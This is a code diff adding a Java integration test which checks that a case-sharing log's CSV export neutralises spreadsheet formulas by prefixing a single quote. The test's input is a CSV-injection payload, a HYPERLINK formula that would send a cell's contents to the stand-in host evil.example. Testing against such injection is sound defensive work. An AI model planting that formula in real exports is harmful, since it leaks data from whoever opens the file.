@@ -272,6 +272,34 @@ class SharingDecisionIT {
     }
 
     /**
+     * CSV injection (issue 25): reasons typed as a spreadsheet formula are recorded as typed, and come out of the
+     * organisation's export as text — a single quote in front — while the entry number stays a number.
+     */
+    @Test
+    void aFormulaInTheReasonsIsExportedAsText() throws Exception {
+        String formula = "=HYPERLINK(\"https://evil.example/?d=\"&A2,\"Open the case\")";
+        Api.Response recorded = teacher.api().post("/api/v1/sharing-decisions", shared().add("decision", "NOT_SHARED")
+                .add("familyInformed", false).add("familyNotInformedReason", "-1 visit left before the conference")
+                .add("rationale", formula).add("caseReference", "CS-2026-7001").build());
+        assertEquals(201, recorded.status(), recorded.body());
+        long id = recorded.json().getJsonNumber("id").longValue();
+        assertEquals(formula, recorded.json().getString("rationale"), "recorded as typed: the log is not the place to change it");
+
+        Partnership.Member schoolLead = partnership.createMember(school, "IG_LEAD");
+        HttpResponse<String> csv = HttpClient.newHttpClient().send(HttpRequest.newBuilder(base.toURI()
+                        .resolve("/api/v1/sharing-decisions/export?caseReference=CS-2026-7001")).header("Accept", "text/csv")
+                .header("Authorization", "Bearer " + schoolLead.token()).build(), HttpResponse.BodyHandlers.ofString());
+        assertEquals(200, csv.statusCode(), csv.body());
+        List<org.apache.commons.csv.CSVRecord> rows = org.apache.commons.csv.CSVFormat.DEFAULT.builder().setHeader()
+                .setSkipHeaderRecord(true).get().parse(new java.io.StringReader(csv.body())).getRecords();
+        assertEquals(1, rows.size(), csv.body());
+        assertEquals("'" + formula, rows.get(0).get("Reasons"), csv.body());
+        assertEquals("'-1 visit left before the conference", rows.get(0).get("Why not informed"));
+        assertEquals(String.valueOf(id), rows.get(0).get("Entry"), "a number stays a number");
+        assertFalse(csv.body().contains("," + formula) || csv.body().contains(",\"" + formula), "no cell starts with the formula");
+    }
+
+    /**
      * Eight corrections of one entry sent at the same instant: exactly one is written, every other is told why, and
      * none fails with a server error. The application's own check races; the database's unique index (V19) does not.
      */
